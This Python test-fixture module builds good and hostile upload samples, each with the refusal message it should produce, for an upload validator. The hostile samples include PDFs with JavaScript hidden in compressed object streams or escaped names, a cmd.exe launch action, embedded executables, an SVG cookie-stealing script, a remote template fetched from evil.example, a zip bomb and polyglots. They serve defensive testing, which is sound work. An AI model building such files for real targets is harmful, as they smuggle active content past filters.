"""The one corpus of upload files, made here from scratch: good files of every accepted kind and bad ones.

Used by tests/security/test_uploads.py against every upload field, and by the app tests that need a file.
Each bad file carries the words its refusal must say to the person uploading.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache
from typing import Any

from django.conf import settings

# --- building blocks ----------------------------------------------------------------------------------


def pdf(objects: list[bytes], *, packed: frozenset[int] = frozenset(), root: int = 1) -> bytes:
    """A PDF with objects 1..n; objects in `packed` go into a compressed object stream (PDF 1.5).

    With an object stream the cross-reference is itself a compressed stream, so nothing in `packed`
    appears in the file as bytes: a grep for `/JavaScript` finds nothing there.
    """
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, body in enumerate(objects, start=1):
        if number not in packed:
            offsets[number] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if not packed:
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        out += b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, len(objects) + 1))
        out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
            len(objects) + 1,
            root,
            xref,
        )
        return bytes(out)
    stream_number, xref_number = len(objects) + 1, len(objects) + 2
    members = sorted(packed)
    header, body = b"", b""
    for number in members:
        header += b"%d %d " % (number, len(body))
        body += objects[number - 1] + b"\n"
    data = zlib.compress(header + body)
    offsets[stream_number] = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        stream_number, len(members), len(header), len(data),
    )  # fmt: skip
    out += data + b"\nendstream\nendobj\n"
    offsets[xref_number] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, xref_number + 1):
        if number in packed:
            rows.append(struct.pack(">BIH", 2, stream_number, members.index(number)))
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    table = zlib.compress(b"".join(rows))
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /Root %d 0 R /W [1 4 2] /Filter /FlateDecode /Length %d >>\n"
        b"stream\n" % (xref_number, xref_number + 1, root, len(table))
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def page_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", extra: list[bytes] | None = None,
             packed: frozenset[int] = frozenset()) -> bytes:  # fmt: skip
    """A one-page PDF saying "Support plan"; `extra` objects are numbered from 6."""
    stream = b"BT /F1 14 Tf 72 760 Td (Support plan) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *(extra or []),
    ]
    return pdf(objects, packed=packed)


def zip_of(parts: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():  # a fixed time: the same parts make the same bytes
            archive.writestr(zipfile.ZipInfo(name, (2026, 12, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


CT = "http://schemas.openxmlformats.org/package/2006/content-types"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def office(main_part: str, main_type: str, *, parts: dict[str, bytes | str] | None = None,
           defaults: str = "", document_rels: str = "") -> bytes:  # fmt: skip
    """An OOXML package: content types, package relationships, the main part and its relationships."""
    folder = main_part.split("/")[0]
    content_types = (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CT}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{defaults}'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/></Types>'
    )
    package_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        f'package/2006/relationships"><Relationship Id="rId1" Type="{REL}/officeDocument" '
        f'Target="{main_part}"/></Relationships>'
    )
    main_rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        f'package/2006/relationships"><Relationship Id="rId9" Type="{REL}/hyperlink" '
        f'Target="https://www.orangatamariki.govt.nz/" TargetMode="External"/>{document_rels}</Relationships>'
    )
    main_name = main_part.rsplit("/", 1)[-1]
    return zip_of(
        {
            "[Content_Types].xml": content_types,
            "_rels/.rels": package_rels,
            main_part: "<document>Support plan for the whānau</document>",
            f"{folder}/_rels/{main_name}.rels": main_rels,
            **(parts or {}),
        }
    )


def png(width: int = 2, height: int = 2) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


@cache
def jpeg() -> bytes:
    from PIL import Image  # Pillow comes with WeasyPrint; a real encoder's output

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, "JPEG", quality=80)
    return buffer.getvalue()


@cache
def weasyprint_pdf() -> bytes:
    from weasyprint import HTML

    return HTML(string="<h1>Caregiver support plan</h1><p>Kōrero with the whānau.</p>").write_pdf()


EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"PE\x00\x00"
    + b"\x00" * 64
)
HTML_PAGE = b"<!doctype html><html><body><script>fetch('/api/v1/children/')</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


@cache
def zip_bomb() -> bytes:
    """A .docx that is small but declares a part of 101 MB (zeros compress about a thousand times)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        base = zipfile.ZipFile(io.BytesIO(office("word/document.xml", DOCX_MAIN)))
        for info in base.infolist():
            archive.writestr(info.filename, base.read(info.filename))
        with archive.open("word/media/padding.bin", "w", force_zip64=True) as part:
            for _ in range(101):
                part.write(b"\x00" * (1024 * 1024))
    return buffer.getvalue()


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(page_pdf())))
    writer.encrypt(user_password="kōrero", owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# --- the corpus -------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    """A file to upload: its name, a function making its bytes, and (for bad ones) what the refusal says."""

    name: str
    make: object
    says: str = ""
    content_type: str = ""

    def content(self) -> bytes:
        return self.make()  # type: ignore[operator]


def _oversize() -> bytes:
    good = page_pdf()
    return good + b"%" + b"0" * (settings.MAX_UPLOAD_BYTES + 1024 * 1024) + b"\n%%EOF\n"


def _js_in_object_stream() -> bytes:
    data = page_pdf(
        catalog_extra=b"/OpenAction 6 0 R ", extra=[b"<< /S /JavaScript /JS (app.alert('hi')) >>"],
        packed=frozenset({1, 6}),
    )  # fmt: skip
    assert b"JavaScript" not in data and b"OpenAction" not in data  # a byte grep would pass it
    return data


GOOD: dict[str, Sample] = {
    "pdf": Sample("Support plan.pdf", page_pdf, content_type="application/pdf"),
    "pdf-weasyprint": Sample("report.pdf", weasyprint_pdf, content_type="application/pdf"),
    "pdf-object-streams": Sample(
        "plan.pdf", lambda: page_pdf(packed=frozenset({1, 2, 3, 5})), content_type="application/pdf"
    ),
    "pdf-link-and-goto": Sample(
        "linked.pdf",
        lambda: page_pdf(
            catalog_extra=b"/OpenAction [3 0 R /Fit] ",
            page_extra=b"/Annots [6 0 R] ",
            extra=[
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://x.nz/) >> >>"
            ],
        ),
        content_type="application/pdf",
    ),
    "docx": Sample(
        "policy.docx",
        lambda: office("word/document.xml", DOCX_MAIN),
        content_type="application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "xlsx": Sample(
        "register.xlsx",
        lambda: office("xl/workbook.xml", XLSX_MAIN, parts={"xl/worksheets/sheet1.xml": "<worksheet/>"}),
        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "png": Sample("scan.png", png, content_type="image/png"),
    "png-pillow": Sample("photo.PNG", lambda: _pillow("PNG"), content_type="image/png"),
    "jpeg": Sample("photo.jpg", jpeg, content_type="image/jpeg"),
    "jpeg-with-second-picture": Sample("phone.jpeg", lambda: jpeg() + jpeg(), content_type="image/jpeg"),
    "text": Sample(
        "notes.txt",
        lambda: "Kōrero with the whānau on 3 May.\nAges < 18 & > 14: see plan.\n".encode(),
        content_type="text/plain; charset=utf-8",
    ),
    "text-with-bom": Sample(
        "notes.txt", lambda: b"\xef\xbb\xbfVisit notes\r\n", content_type="text/plain; charset=utf-8"
    ),
}


def _pillow(kind: str) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (16, 9), (0, 90, 160)).save(buffer, kind)
    return buffer.getvalue()


def _bad_pdf(says: str, **page: Any) -> Sample:
    """A one-page PDF with hostile additions (see `page_pdf`), refused with `says`."""
    return Sample("plan.pdf", lambda: page_pdf(**page), says)


BAD: dict[str, Sample] = {
    "exe-renamed-pdf": Sample("policy.pdf", lambda: EXE, "This file is an executable program, not a PDF."),
    "html-renamed-txt": Sample(
        "notes.txt",
        lambda: HTML_PAGE,
        "This file is a web page (HTML), not a text file. These can run scripts",
    ),
    "svg-with-script": Sample("chart.svg", lambda: SVG, "This file is an SVG image. These can run scripts"),
    "svg-renamed-png": Sample("chart.png", lambda: SVG, "This file is an SVG image, not a PNG image."),
    "pdf-javascript-in-object-stream": Sample(
        "plan.pdf", _js_in_object_stream, "This PDF contains JavaScript"
    ),
    "pdf-javascript-names-tree": _bad_pdf(
        "This PDF contains JavaScript",
        catalog_extra=b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >> ",
        extra=[b"<< /S /JavaScript /JS 7 0 R >>", b"<< /Length 10 >>\nstream\napp.alert(\nendstream"],
    ),
    # /J#61vaScript is /JavaScript with an escaped letter; both objects sit in a compressed object stream.
    "pdf-javascript-on-annotation": _bad_pdf(
        "This PDF contains JavaScript",
        page_extra=b"/Annots [6 0 R] ",
        extra=[
            b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /E 7 0 R >> >>",
            b"<< /S /J#61vaScript /J#53 (this.print()) >>",
        ],
        packed=frozenset({6, 7}),
    ),
    "pdf-launch": _bad_pdf(
        "can start other programs",
        page_extra=b"/AA << /O << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >> >> ",
    ),
    "pdf-embedded-file": _bad_pdf(
        "carries other files inside it",
        catalog_extra=b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >> ",
        extra=[
            b"<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ],
    ),  # fmt: skip
    "pdf-password": Sample("plan.pdf", encrypted_pdf, "protected with a password"),
    "pdf-truncated": Sample(
        "plan.pdf", lambda: weasyprint_pdf()[: len(weasyprint_pdf()) // 2], "damaged or incomplete"
    ),
    "pdf-unparseable": Sample(
        "plan.pdf", lambda: b"%PDF-1.7\n\x00\xff not a pdf at all \n%%EOF\n", "damaged or incomplete"
    ),
    "docm": Sample(
        "plan.docm",
        lambda: office(
            "word/document.xml",
            DOCM_MAIN,
            parts={"word/vbaProject.bin": OLE},
            defaults='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        "contains macros",
    ),  # fmt: skip
    "docx-with-vbaproject": Sample(
        "plan.docx",
        lambda: office("word/document.xml", DOCX_MAIN, parts={"word/vbaProject.bin": OLE}),
        "contains macros",
    ),  # fmt: skip
    "xlsx-macro-enabled-type": Sample(
        "register.xlsx", lambda: office("xl/workbook.xml", XLSM_MAIN), "contains macros"
    ),
    "docx-remote-template": Sample(
        "plan.docx",
        lambda: office(
            "word/document.xml",
            DOCX_MAIN,
            document_rels=f'<Relationship Id="rId5" Type="{REL}/attachedTemplate" '
            'Target="https://evil.example/t.dotm" TargetMode="External"/>',
        ),
        "loads a template or object from the internet",
    ),  # fmt: skip
    "legacy-doc": Sample(
        "plan.doc", lambda: OLE, "This file is an old-style Office file (.doc or .xls). These can hide macros"
    ),
    "zip-bomb": Sample("plan.docx", zip_bomb, "unpacks to more than 100 MB"),
    "oversize": Sample("plan.pdf", _oversize, "files can be at most 10.0 MB"),
    "empty": Sample("plan.pdf", lambda: b"", "The file is empty"),
    "polyglot-pdf-zip": Sample("plan.pdf", lambda: page_pdf() + zip_of({"index.html": HTML_PAGE}), "hidden"),
    "polyglot-png-html": Sample("scan.png", lambda: png() + HTML_PAGE, "hidden"),
    "polyglot-jpeg-jar": Sample(
        "photo.jpg", lambda: jpeg() + zip_of({"META-INF/MANIFEST.MF": "x"}), "hidden"
    ),
    "png-bad-crc": Sample("scan.png", lambda: png()[:-5] + b"\x00" + png()[-4:], "damaged or incomplete"),
    "png-name-lies": Sample("scan.pdf", png, "its content is a PNG image. Rename it to end in .png"),
}
